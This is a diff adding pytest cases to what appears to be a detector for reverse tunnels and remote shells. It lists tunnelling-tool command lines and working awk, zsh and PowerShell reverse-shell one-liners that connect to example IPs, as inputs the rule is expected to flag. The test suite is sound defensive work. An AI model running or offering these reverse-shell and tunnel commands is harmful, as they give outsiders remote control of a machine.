@@ -150,3 +150,40 @@ def test_an_interpreter_handing_a_socket_to_a_subprocess_under_any_name_is_a_rev
 def test_a_tunnel_inside_a_wrapper_is_judged_as_the_wrapped_command():
     [finding] = run("nohup timeout 600 cloudflared tunnel --url http://localhost:8000")
     assert finding.evidence["program"] == "cloudflared"
+
+
+@pytest.mark.parametrize("command_line, tool", [
+    ("wstunnel client -R tcp://2222:localhost:22 wss://203.0.113.120:443", "wstunnel"),
+    ("./svc client --remote-to-local socks5://127.0.0.1:1080 wss://203.0.113.121", "wstunnel"),
+    ("./iox proxy -r 203.0.113.122:9999", "iox"),
+    ("./agent -c 203.0.113.123:9999 -s secret", "stowaway"),
+    ("./p -type client -l :4455 -s 203.0.113.124 -t 203.0.113.124:4455", "pingtunnel"),
+    ("./npc -server=203.0.113.125:8024 -vkey=abc", "npc"),
+    ("./revsocks -connect 203.0.113.131:8443 -pass x", "connect-back agent"),
+    ("iodine -f -P pw t1.example.com", "tunnel"),
+    ("expose share http://localhost:8000", "expose"),
+])
+def test_reverse_tunnel_agents_and_dns_tunnels(command_line, tool):
+    [finding] = run(command_line)
+    assert finding.evidence["tool"] == tool
+
+
+@pytest.mark.parametrize("argv", [
+    ["awk", 'BEGIN {s = "/inet/tcp/0/203.0.113.127/4242"; while(42) { s |& getline c; print c |& s }}'],
+    ["zsh", "-c", "zmodload zsh/net/tcp && ztcp 203.0.113.128 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY"],
+    ["pwsh", "-c", "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.129',4242);$s = $c.GetStream();"
+                   "while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$o = (iex $d 2>&1 | Out-String)}"],
+])
+def test_shells_on_sockets_in_awk_zsh_and_powershell_are_critical(argv):
+    [finding] = list(RULE.on_event({"kind": "exec", "argv": argv}))
+    assert finding.severity == "critical"
+
+
+@pytest.mark.parametrize("command_line", [
+    "wstunnel client -L tcp://8080:localhost:80 wss://203.0.113.120",
+    "awk -F: {print $1} /etc/passwd",
+    "tmole --help",
+    "curl -c cookies.txt -s https://example.com",
+])
+def test_local_forwards_and_ordinary_uses_are_not_tunnels(command_line):
+    assert run(command_line) == []
